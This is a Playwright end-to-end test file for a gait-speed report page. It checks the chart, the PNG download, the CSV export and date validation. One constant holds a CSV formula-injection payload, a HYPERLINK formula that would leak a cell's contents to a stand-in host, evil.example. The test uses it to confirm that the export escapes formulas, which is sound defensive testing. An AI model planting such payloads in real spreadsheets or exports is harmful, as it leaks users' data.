/**
 * Gait Reports (issue 12; spec 002 §2 'Gait Reports', §4 report flow, §8, §9): a gait user generates the report of
 * a day with sessions (found through the API): the Chart tab (bars drawn by the server, in the HTML; the island over them with JavaScript; the table) with
 * the share below 0.8 m/s, the chart image (PNG) and the CSV named MM-dd-yyyy.csv; 'Generate new report' resets;
 * an empty day says 'No sessions exist for that date.' and a future day is refused at the field. Both projects.
 */
import { readFile } from "node:fs/promises";
import { parse } from "csv-parse/sync";
import type { Page } from "@playwright/test";
import { test, expect, expectAccessible, jsEnabled } from "./fixtures.js";
import { apiAs, PROVIDER_ADMIN } from "./helpers/stack.js";
import { useSession } from "./helpers/session.js";
import { expectFieldError } from "./helpers/ui.js";
import { addDays, dateRangeInstants, todayIn } from "../../app/domain/date-range.js";

const PAGE = "/gait/reports/";
let day: string;
let today: string;
let subject: string;
let commented: { id: string; comment: string | null };

const mmddyyyy = (d: string) => `${d.slice(5, 7)}-${d.slice(8, 10)}-${d.slice(0, 4)}`;

test.beforeAll(async () => {
  const api = await apiAs(PROVIDER_ADMIN.email);
  const me = await api.GET("/v2/users/current");
  const timeZone = me.data!.organization.timezone;
  today = todayIn(timeZone);
  // From 31 days back: the gait sections' comment test takes sessions of the last 30 days, and this one comments one.
  for (let back = 31; back < 150 && !day; back++) {
    const d = addDays(today, -back);
    const r = await api.GET("/v2/gait/sessions/report", { params: { query: dateRangeInstants({ start: d, end: d }, timeZone) } });
    const withSpeed = (r.data ?? []).find((s) => s.session.data.items.some((i) => i.measures.some((m) => m.name === "avgSpeed" || m.name === "speed")));
    if (withSpeed) {
      day = d;
      subject = `${withSpeed.subject.firstName} ${withSpeed.subject.lastName}`;
      commented = { id: withSpeed.id, comment: withSpeed.session.meta.comment ?? null };
    }
  }
  expect(day, "the organization has gait sessions 31 to 150 days ago").toBeDefined();
});

// A comment a spreadsheet would run (OWASP CSV injection; issue 23, finding 4): the CSV carries it as text.
const FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';

test("a gait user generates a day's report: the chart with its share below 0.8 m/s, the image and CSV downloads, then a new report", async ({ page }) => {
  // The JavaScript project comments (the two projects may run at the same time, and every worker runs this file's
  // hooks: the comment is put back in this test, not in an afterAll); both check the CSV has no live cell.
  const api = await apiAs(PROVIDER_ADMIN.email);
  const comment = (value: string | null) => api.POST("/v2/gait/sessions/{id}/comment", { params: { path: { id: commented.id } }, body: { comment: value } });
  if (jsEnabled()) expect((await comment(FORMULA_COMMENT)).response.status).toBe(200);
  try {
    await report(page);
  } finally {
    if (jsEnabled()) await comment(commented.comment);
  }
});

async function report(page: Page) {
  await useSession(page, PROVIDER_ADMIN.email);
  await page.goto("/gait/");
  await expect(page).toHaveURL(/\/gait\/reports\/$/);
  await expect(page.getByRole("heading", { name: "Gait Reports", level: 1 })).toBeVisible();
  await expectAccessible(page);

  await page.getByRole("form", { name: "Generate a gait report" }).getByLabel("Report date").fill(day);
  await page.getByRole("button", { name: "Generate" }).click();
  await expect(page).toHaveURL(new RegExp(`date=${day}`));
  await expect(page.getByText(/^\d+ of \d+ subjects? \(\d+%\) below 0\.8 m\/s$/)).toBeVisible();
  const table = page.getByRole("table", { name: /Gait speed per subject/ });
  // The bars are drawn by the server: their SVG is in the report's HTML (streamed after the form), with the line.
  const html = await (await page.request.get(page.url())).text();
  expect(html).toMatch(/<svg role="img"[^>]*><title id="[^"]+">Gait speed per subject, [^<]+<\/title><desc id="[^"]+">Bar chart of gait speed per subject on /);
  const bars = page.getByRole("img", { name: /^Gait speed per subject/ });
  await expect(bars).toBeVisible();
  await expect(bars.locator("text", { hasText: /^0\.8 m\/s$/ })).toBeVisible();
  if (jsEnabled()) {
    await expect(page.getByTestId("chart-live").locator("svg")).toBeVisible();
    // The table stays, folded under the plot.
    await page.getByText("Show data table").click();
  }
  await expect(table).toBeVisible();
  await expect(table.getByRole("rowheader", { name: new RegExp(subject) }).first()).toBeVisible();
  await expect(table.getByRole("columnheader", { name: "Below 0.8 m/s" })).toBeVisible();
  await expectAccessible(page);

  const [png] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download chart image" }).click()]);
  expect(png.suggestedFilename()).toBe(`gait-report-${mmddyyyy(day)}.png`);
  const image = await readFile((await png.path())!);
  expect([...image.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

  await page.getByRole("link", { name: "CSV", exact: true }).click();
  await expect(page).toHaveURL(/tab=csv/);
  await expect(page.getByRole("columnheader", { name: "Gait UID" })).toBeVisible();
  await expectAccessible(page);
  const [csv] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: /Download CSV/ }).click()]);
  expect(csv.suggestedFilename()).toBe(`${mmddyyyy(day)}.csv`);
  const text = await readFile((await csv.path())!, "utf8");
  expect(text.split("\n")[0]).toBe("First Name,Last Name,Gait UID,Captured,Assistance,Speed (m/s),Below 0.8 m/s,Comment");
  expect(text).toMatch(/,\d+\.\d{2},(Yes|No),/);
  const comments = (parse(text, { columns: true }) as Record<string, string>[]).map((row) => row.Comment ?? "");
  if (jsEnabled()) expect(comments, "the formula-shaped comment leaves as text").toContain(`'${FORMULA_COMMENT}`);
  expect(comments.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c)), "no cell starts a formula").toEqual([]);

  await page.getByRole("link", { name: "Generate new report" }).click();
  await expect(page).toHaveURL(/\/gait\/reports\/$/);
  await expect(page.getByRole("form", { name: "Generate a gait report" }).getByLabel("Report date")).toBeVisible();
}

test("an empty day says so and a future day is refused at the field", async ({ page }) => {
  await useSession(page, PROVIDER_ADMIN.email);
  await page.goto(PAGE);
  await expectAccessible(page);
  await page.getByRole("form", { name: "Generate a gait report" }).getByLabel("Report date").fill("2001-01-01");
  await page.getByRole("button", { name: "Generate" }).click();
  await expect(page.getByText("No sessions exist for that date.")).toBeVisible();
  await expectAccessible(page);

  const response = await page.goto(`${PAGE}?date=${addDays(today, 1)}`);
  expect(response?.status(), "a refused report date is a 4xx").toBe(400);
  await expectFieldError(page.getByRole("form", { name: "Generate a gait report" }).getByLabel("Report date"), "Report date cannot be in the future");
  await expect(page.getByText(/below 0\.8 m\/s/)).toHaveCount(0);
  await expectAccessible(page);
});
